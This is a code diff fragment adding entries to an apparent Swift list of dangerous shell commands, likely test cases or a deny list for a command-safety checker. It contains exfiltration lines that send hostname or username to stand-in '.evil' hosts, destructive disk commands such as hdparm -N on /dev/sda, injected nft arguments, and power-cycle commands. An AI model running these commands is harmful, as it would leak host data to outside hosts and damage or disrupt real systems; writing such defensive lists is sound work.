@@ -16,7 +16,16 @@ extension HolesTable {
     "whois $(hostname).evil", "ssh-keyscan $(hostname).evil", "showmount -e $(hostname).evil",
     "getent hosts $(hostname).evil", "resolvectl query $(hostname).evil", "tracepath $(id -un).evil",
     "dig $(cat /etc/hostname).evil", "ping -c1 \"$(whoami).evil\"", "nc -z $(hostname).evil 80",
-    "wget --spider http://$(hostname).evil", "curl http://$(hostname).evil", "curl \"http://evil/$(hostname)\"",
+    "wget --spider http://$(hostname).evil", "hdparm -Np78125000 /dev/sda", "hdparm -N p100 /dev/sda",
+    "hdparm -I -y /dev/sda", "blockdev --setro /dev/sda",
+    "blockdev --getra --setra 1 /dev/sda", "nft list tables \\; add table x", "nft 'list tables; add table x'",
+    "systemctl show -p Environment nginx", "systemctl show --property=Environment nginx",
+    "cat /etc/pve/nodes/pve/priv/x", "pvesh get /nodes/pve/report", "modprobe -n -r x", "modprobe zfs", "hwclock -w",
+    "hwclock --systohc", "ipset flush", "ipset list x -o save -file /etc/x", "exportfs -ra", "multipathd reconfigure",
+    "multipathd -k'reconfigure'", "lvm lvcreate x", "lvm", "networkctl down eth0", "bootctl set-default x",
+    "coredumpctl dump", "coredumpctl gdb", "machinectl shell x", "dkms remove x", "tuned-adm profile x",
+    "rpcinfo -b 1 1", "postqueue -f", "ipmitool chassis power cycle", "nvidia-smi -r", "nvidia-smi -pl 100",
+    "curl http://$(hostname).evil", "curl \"http://evil/$(hostname)\"",
   ]
 
   /// BLACK: the way leads to the system.
